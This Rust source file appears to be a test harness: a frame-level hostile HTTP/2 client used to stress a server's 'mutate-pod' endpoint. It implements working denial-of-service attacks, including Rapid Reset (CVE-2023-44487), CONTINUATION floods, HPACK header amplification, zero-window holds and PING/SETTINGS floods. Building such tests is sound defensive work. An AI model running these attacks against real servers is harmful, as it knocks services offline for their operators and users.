//! A hostile HTTP/2 client, frame by frame (RFC 9113), for the abuse tests: the `h2` crate
//! as a client keeps to the protocol, and these attacks need frames it would never send
//! (streams reset as they open, header lists grown through the HPACK dynamic table, a
//! receive window left at zero, floods of PING and SETTINGS).
//!
//! One [`Attacker`] task per connection: it keeps up to the server's stream limit open with
//! the chosen [`Attack`] until told to stop, and counts what the server did.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::sync::{Mutex, Notify};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

const SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 0x4;
const SETTINGS_MAX_HEADER_LIST_SIZE: u16 = 0x6;

/// RST_STREAM / GOAWAY error codes.
const CANCEL: u32 = 0x8;

/// What each attacking connection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Streams announcing `declared` body bytes that send DATA up to every window the server
    /// opens (never all of it): what the server buffers for streams it has not read yet, or,
    /// for a small body, a slot held while its last byte never comes.
    StalledBodies { declared: usize },
    /// Streams sending whole bodies at the size limit: they queue for the large-body lane
    /// with their windows full.
    LimitBodies { size: usize },
    /// HEADERS then RST_STREAM at once, in batches (CVE-2023-44487).
    RapidReset,
    /// Streams whose header list is just under the server's limit once decoded, sent as a few
    /// bytes each by repeating one HPACK dynamic-table entry; held open without a body.
    HeaderLists { limit: usize },
    /// A HEADERS frame followed by endless CONTINUATION frames (CVE-2024-27316 class).
    Continuation,
    /// Whole, valid admissions with the client's receive window at zero: every answer stays
    /// in the server, which cannot send it. PINGs keep the connection from being idle.
    ZeroWindow,
    /// PING frames as fast as the server takes them, answers never read.
    PingFlood,
    /// SETTINGS frames as fast as the server takes them, answers never read.
    SettingsFlood,
}

impl Attack {
    pub fn name(&self) -> &'static str {
        match self {
            // Below the large-body lane's threshold: read as they arrive, holding a slot.
            Attack::StalledBodies { declared } if *declared <= 256 * 1024 => "stalled-small-bodies",
            Attack::StalledBodies { .. } => "stalled-bodies",
            Attack::LimitBodies { .. } => "limit-bodies",
            Attack::RapidReset => "rapid-reset",
            Attack::HeaderLists { .. } => "header-lists",
            Attack::Continuation => "continuation",
            Attack::ZeroWindow => "zero-window",
            Attack::PingFlood => "ping-flood",
            Attack::SettingsFlood => "settings-flood",
        }
    }

    /// Whether the attacker reads (and answers) what the server sends.
    fn reads(&self) -> bool {
        !matches!(self, Attack::PingFlood | Attack::SettingsFlood)
    }
}

/// What the attackers saw, summed over their connections.
#[derive(Default)]
pub struct Tally {
    pub connections: AtomicU64,
    pub connect_failures: AtomicU64,
    pub streams_opened: AtomicU64,
    /// Streams the server finished: answered (END_STREAM) or reset.
    pub streams_closed: AtomicU64,
    pub resets_received: AtomicU64,
    /// Connections made after the stop (the stopping attackers gave their slots back).
    pub connections_late: AtomicU64,
    /// Connections the server ended (GOAWAY, or closed: a read or a write failed) before
    /// the stop: each gave its HTTP/2 slot back for another connection to take.
    pub connections_ended: AtomicU64,
    pub bytes_sent: AtomicU64,
}

impl Tally {
    pub fn summary(&self) -> String {
        let g = |a: &AtomicU64| a.load(Ordering::Relaxed);
        format!(
            "connections={} connect_failures={} connections_late={} streams_opened={} \
             streams_closed={} resets_received={} connections_ended={} sent_mib={:.1}",
            g(&self.connections),
            g(&self.connect_failures),
            g(&self.connections_late),
            g(&self.streams_opened),
            g(&self.streams_closed),
            g(&self.resets_received),
            g(&self.connections_ended),
            g(&self.bytes_sent) as f64 / (1024.0 * 1024.0),
        )
    }
}

/// The sending side's view of the connection, updated by the reader.
struct Windows {
    connection: i64,
    initial_stream: i64,
    streams: HashMap<u32, i64>,
    max_streams: usize,
    /// The server's SETTINGS_MAX_HEADER_LIST_SIZE, once its SETTINGS arrived.
    max_header_list: Option<usize>,
    ended: bool,
}

type Writer = Arc<Mutex<WriteHalf<TlsStream<TcpStream>>>>;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// HPACK integer with an `n`-bit prefix (RFC 7541 §5.1); `first` holds the pattern bits.
fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128 + 128) as u8);
        v /= 128;
    }
    out.push(v as u8);
}

fn hpack_string(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0, 7, s.len());
    out.extend_from_slice(s);
}

/// Literal header without indexing, name from the static table (RFC 7541 §6.2.2).
fn literal_indexed_name(out: &mut Vec<u8>, index: usize, value: &[u8]) {
    hpack_int(out, 0x00, 4, index);
    hpack_string(out, value);
}

/// The header block of `POST /mutate-pod` with a JSON body of `length` bytes.
fn post_block(length: Option<usize>) -> Vec<u8> {
    let mut b = Vec::with_capacity(64);
    b.push(0x83); // :method POST
    b.push(0x87); // :scheme https
    literal_indexed_name(&mut b, 4, b"/mutate-pod"); // :path
    literal_indexed_name(&mut b, 1, b"localhost"); // :authority
    literal_indexed_name(&mut b, 31, b"application/json"); // content-type
    if let Some(length) = length {
        literal_indexed_name(&mut b, 28, length.to_string().as_bytes()); // content-length
    }
    b
}

/// A header block whose decoded size is just under `limit`: one 100-byte header added to the
/// dynamic table, then referenced by one byte each (RFC 7541 §6.1) as often as fits. The
/// table entry is added by the first stream on the connection only.
fn amplified_block(limit: usize, first_on_connection: bool) -> Vec<u8> {
    let mut b = post_block(None);
    let (name, value) = (b"x-pad".as_slice(), [b'v'; 100]);
    let entry = 32 + name.len() + value.len();
    let used = 4 * 32 + 100; // the pseudo-headers and content-type, roughly
    let mut count = limit.saturating_sub(used) / entry;
    if first_on_connection {
        b.push(0x40); // literal with incremental indexing, new name
        hpack_string(&mut b, name);
        hpack_string(&mut b, &value);
        count = count.saturating_sub(1);
    }
    for _ in 0..count {
        b.push(0x80 | 62); // the newest dynamic-table entry
    }
    b
}

/// Connects (TLS, ALPN h2) and runs `attack` until `stop`, counting into `tally`.
pub async fn run(
    addr: SocketAddr,
    connector: TlsConnector,
    attack: Attack,
    body: Arc<Vec<u8>>,
    stop: Arc<AtomicBool>,
    tally: Arc<Tally>,
) {
    let tls = match crate::child::tls_connect(addr, &connector).await {
        Ok(tls) if tls.get_ref().1.alpn_protocol() == Some(b"h2") => tls,
        _ => {
            tally.connect_failures.fetch_add(1, Ordering::Relaxed);
            return;
        }
    };
    tally.connections.fetch_add(1, Ordering::Relaxed);
    if stop.load(Ordering::Relaxed) {
        tally.connections_late.fetch_add(1, Ordering::Relaxed);
        return;
    }
    let (rd, mut wr) = tokio::io::split(tls);
    let mut hello = PREFACE.to_vec();
    let mut settings = Vec::new();
    if attack == Attack::ZeroWindow {
        settings.extend_from_slice(&SETTINGS_INITIAL_WINDOW_SIZE.to_be_bytes());
        settings.extend_from_slice(&0u32.to_be_bytes());
    }
    hello.extend(frame(SETTINGS, 0, 0, &settings));
    if wr.write_all(&hello).await.is_err() {
        tally.connections_ended.fetch_add(1, Ordering::Relaxed);
        return;
    }
    // Sent: a connection the server evicts right after its preface (one that is silent at
    // the address's share) attacked no further, but it did reach the server.
    tally
        .bytes_sent
        .fetch_add(hello.len() as u64, Ordering::Relaxed);
    let writer: Writer = Arc::new(Mutex::new(wr));
    let windows = Arc::new(std::sync::Mutex::new(Windows {
        connection: 65_535,
        initial_stream: 65_535,
        streams: HashMap::new(),
        max_streams: 100,
        max_header_list: None,
        ended: false,
    }));
    let changed = Arc::new(Notify::new());
    let reader = attack.reads().then(|| {
        tokio::spawn(read_frames(
            rd,
            writer.clone(),
            windows.clone(),
            changed.clone(),
            tally.clone(),
            attack != Attack::ZeroWindow,
        ))
    });
    let conn = Conn {
        writer,
        windows,
        changed,
        tally: tally.clone(),
        stop,
        next_stream: 1,
    };
    let windows = conn.windows.clone();
    conn.attack(attack, &body).await;
    if windows.lock().unwrap_or_else(|e| e.into_inner()).ended {
        tally.connections_ended.fetch_add(1, Ordering::Relaxed);
    }
    if let Some(r) = reader {
        r.abort();
    }
}

struct Conn {
    writer: Writer,
    windows: Arc<std::sync::Mutex<Windows>>,
    changed: Arc<Notify>,
    tally: Arc<Tally>,
    stop: Arc<AtomicBool>,
    next_stream: u32,
}

impl Conn {
    fn stopped(&self) -> bool {
        self.stop.load(Ordering::Relaxed) || self.windows().ended
    }

    fn windows(&self) -> std::sync::MutexGuard<'_, Windows> {
        self.windows.lock().unwrap_or_else(|e| e.into_inner())
    }

    async fn send(&self, bytes: &[u8]) -> bool {
        let ok = self.writer.lock().await.write_all(bytes).await.is_ok();
        if ok {
            self.tally
                .bytes_sent
                .fetch_add(bytes.len() as u64, Ordering::Relaxed);
        } else {
            self.windows().ended = true;
        }
        ok
    }

    /// Waits until something changed (a window opened, a stream closed) or 50 ms passed.
    async fn wait_for_change(&self) {
        let _ = tokio::time::timeout(Duration::from_millis(50), self.changed.notified()).await;
    }

    fn open_stream(&mut self) -> u32 {
        let id = self.next_stream;
        self.next_stream += 2;
        let mut w = self.windows();
        let initial = w.initial_stream;
        w.streams.insert(id, initial);
        self.tally.streams_opened.fetch_add(1, Ordering::Relaxed);
        id
    }

    /// A free stream slot under the server's limit.
    fn may_open(&self) -> bool {
        let w = self.windows();
        w.streams.len() < w.max_streams && self.next_stream < 0x7fff_0000
    }

    async fn attack(mut self, attack: Attack, body: &[u8]) {
        match attack {
            Attack::StalledBodies { declared } => self.bodies(Some(declared), None).await,
            Attack::LimitBodies { size } => self.bodies(Some(size), Some(size)).await,
            Attack::RapidReset => self.rapid_reset().await,
            Attack::HeaderLists { limit } => self.header_lists(limit).await,
            Attack::Continuation => self.continuation().await,
            Attack::ZeroWindow => self.zero_window(body).await,
            Attack::PingFlood => self.flood(PING, &[0u8; 8]).await,
            Attack::SettingsFlood => self.flood(SETTINGS, &[]).await,
        }
    }

    /// Keeps the stream limit full of streams that send as much body as the windows allow;
    /// with `finish`, a stream ends its body after that many bytes.
    async fn bodies(&mut self, declared: Option<usize>, finish: Option<usize>) {
        let mut sent: HashMap<u32, usize> = HashMap::new();
        let chunk = vec![b' '; 16 * 1024];
        while !self.stopped() {
            while self.may_open() {
                let id = self.open_stream();
                sent.insert(id, 0);
                if !self
                    .send(&frame(HEADERS, END_HEADERS, id, &post_block(declared)))
                    .await
                {
                    return;
                }
            }
            // Fill every window the server has opened.
            let mut out = Vec::new();
            {
                let mut w = self.windows();
                let open: Vec<u32> = w.streams.keys().copied().collect();
                sent.retain(|id, _| w.streams.contains_key(id));
                for id in open {
                    let done = sent.get(&id).copied().unwrap_or(0);
                    let left = match (finish, declared) {
                        (Some(f), _) => f - done,
                        (None, Some(d)) => (d - 1).saturating_sub(done),
                        (None, None) => usize::MAX,
                    };
                    let room = w.connection.min(w.streams[&id]).max(0) as usize;
                    let n = room.min(left).min(chunk.len());
                    if n == 0 {
                        continue;
                    }
                    let last = finish.is_some() && n == left;
                    out.extend(frame(
                        DATA,
                        if last { END_STREAM } else { 0 },
                        id,
                        &chunk[..n],
                    ));
                    w.connection -= n as i64;
                    if let Some(s) = w.streams.get_mut(&id) {
                        *s -= n as i64;
                    }
                    *sent.entry(id).or_default() += n;
                    if last {
                        // Half-closed: the server may still answer, the slot stays taken.
                        w.streams.insert(id, i64::MIN / 2);
                    }
                    if out.len() > 256 * 1024 {
                        break;
                    }
                }
            }
            if out.is_empty() {
                self.wait_for_change().await;
            } else if !self.send(&out).await {
                return;
            }
        }
    }

    async fn rapid_reset(&mut self) {
        let block = post_block(Some(100));
        let mut rst = [0u8; 4];
        rst.copy_from_slice(&CANCEL.to_be_bytes());
        while !self.stopped() && self.next_stream < 0x7fff_0000 {
            let mut out = Vec::with_capacity(100 * 64);
            for _ in 0..100 {
                let id = self.next_stream;
                self.next_stream += 2;
                out.extend(frame(HEADERS, END_HEADERS, id, &block));
                out.extend(frame(RST_STREAM, 0, id, &rst));
            }
            self.tally.streams_opened.fetch_add(100, Ordering::Relaxed);
            if !self.send(&out).await {
                return;
            }
            tokio::task::yield_now().await;
        }
    }

    async fn header_lists(&mut self, limit: usize) {
        // Just under what the server announces (a longer list is refused, not held).
        for _ in 0..100 {
            if self.windows().max_header_list.is_some() || self.stopped() {
                break;
            }
            self.wait_for_change().await;
        }
        let limit = self.windows().max_header_list.unwrap_or(limit).min(limit);
        let mut first = true;
        while !self.stopped() {
            let mut out = Vec::new();
            while self.may_open() {
                let id = self.open_stream();
                out.extend(frame(
                    HEADERS,
                    END_HEADERS,
                    id,
                    &amplified_block(limit, first),
                ));
                first = false;
            }
            if !out.is_empty() && !self.send(&out).await {
                return;
            }
            self.wait_for_change().await;
        }
    }

    async fn continuation(&mut self) {
        let id = self.open_stream();
        let mut block = post_block(None);
        block.push(0x40);
        hpack_string(&mut block, b"x-pad");
        hpack_int(&mut block, 0, 7, 1 << 20); // a value that never ends
        if !self.send(&frame(HEADERS, 0, id, &block)).await {
            return;
        }
        let filler = frame(CONTINUATION, 0, id, &[b'v'; 16 * 1024 - 9]);
        while !self.stopped() {
            if !self.send(&filler).await {
                return;
            }
        }
    }

    async fn zero_window(&mut self, body: &[u8]) {
        let mut pinged = tokio::time::Instant::now();
        while !self.stopped() {
            let mut out = Vec::new();
            while self.may_open() && self.window_for(body.len()) {
                let id = self.open_stream();
                out.extend(frame(
                    HEADERS,
                    END_HEADERS,
                    id,
                    &post_block(Some(body.len())),
                ));
                for (i, part) in body.chunks(16 * 1024).enumerate() {
                    let last = (i + 1) * 16 * 1024 >= body.len();
                    out.extend(frame(DATA, if last { END_STREAM } else { 0 }, id, part));
                }
            }
            if pinged.elapsed() > Duration::from_secs(1) {
                out.extend(frame(PING, 0, 0, &[1u8; 8]));
                pinged = tokio::time::Instant::now();
            }
            if !out.is_empty() && !self.send(&out).await {
                return;
            }
            self.wait_for_change().await;
        }
    }

    /// Takes `n` bytes of the connection window and of a new stream's, if both have them.
    fn window_for(&self, n: usize) -> bool {
        let mut w = self.windows();
        let n = n as i64;
        if w.connection < n || w.initial_stream < n {
            return false;
        }
        w.connection -= n;
        true
    }

    async fn flood(&mut self, kind: u8, payload: &[u8]) {
        let one = frame(kind, 0, 0, payload);
        let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 1000).collect();
        while !self.stopped() {
            match tokio::time::timeout(Duration::from_millis(200), self.send(&batch)).await {
                Ok(true) => {}
                Ok(false) => return,
                // The server stopped reading (its answers are not read): hold the connection.
                Err(_) => {}
            }
        }
    }
}

/// Reads the server's frames: applies its SETTINGS and WINDOW_UPDATEs, counts closed
/// streams, and (with `open_windows`) gives back the window of every DATA frame received.
async fn read_frames(
    mut rd: ReadHalf<TlsStream<TcpStream>>,
    writer: Writer,
    windows: Arc<std::sync::Mutex<Windows>>,
    changed: Arc<Notify>,
    tally: Arc<Tally>,
    open_windows: bool,
) {
    let mut head = [0u8; 9];
    let mut payload = Vec::new();
    loop {
        if rd.read_exact(&mut head).await.is_err() {
            break;
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (kind, flags) = (head[3], head[4]);
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        payload.resize(len, 0);
        if rd.read_exact(&mut payload).await.is_err() {
            break;
        }
        let mut reply = Vec::new();
        {
            let mut w = windows.lock().unwrap_or_else(|e| e.into_inner());
            match kind {
                SETTINGS if flags & ACK == 0 => {
                    for s in payload.chunks_exact(6) {
                        let id = u16::from_be_bytes([s[0], s[1]]);
                        let v = u32::from_be_bytes([s[2], s[3], s[4], s[5]]) as i64;
                        match id {
                            SETTINGS_MAX_CONCURRENT_STREAMS => w.max_streams = v as usize,
                            SETTINGS_MAX_HEADER_LIST_SIZE => w.max_header_list = Some(v as usize),
                            SETTINGS_INITIAL_WINDOW_SIZE => {
                                let delta = v - w.initial_stream;
                                w.initial_stream = v;
                                w.streams.values_mut().for_each(|s| *s += delta);
                            }
                            _ => {}
                        }
                    }
                    w.max_header_list.get_or_insert(usize::MAX);
                    reply.extend(frame(SETTINGS, ACK, 0, &[]));
                }
                WINDOW_UPDATE if payload.len() == 4 => {
                    let inc = (u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]])
                        & 0x7fff_ffff) as i64;
                    if stream == 0 {
                        w.connection += inc;
                    } else if let Some(s) = w.streams.get_mut(&stream) {
                        *s += inc;
                    }
                }
                HEADERS | DATA => {
                    if kind == DATA && open_windows && len > 0 {
                        reply.extend(frame(WINDOW_UPDATE, 0, 0, &(len as u32).to_be_bytes()));
                    }
                    if flags & END_STREAM != 0 && w.streams.remove(&stream).is_some() {
                        tally.streams_closed.fetch_add(1, Ordering::Relaxed);
                    }
                }
                RST_STREAM => {
                    tally.resets_received.fetch_add(1, Ordering::Relaxed);
                    if w.streams.remove(&stream).is_some() {
                        tally.streams_closed.fetch_add(1, Ordering::Relaxed);
                    }
                }
                GOAWAY => w.ended = true,
                _ => {}
            }
        }
        if !reply.is_empty() && writer.lock().await.write_all(&reply).await.is_err() {
            break;
        }
        changed.notify_waiters();
    }
    windows.lock().unwrap_or_else(|e| e.into_inner()).ended = true;
    changed.notify_waiters();
}
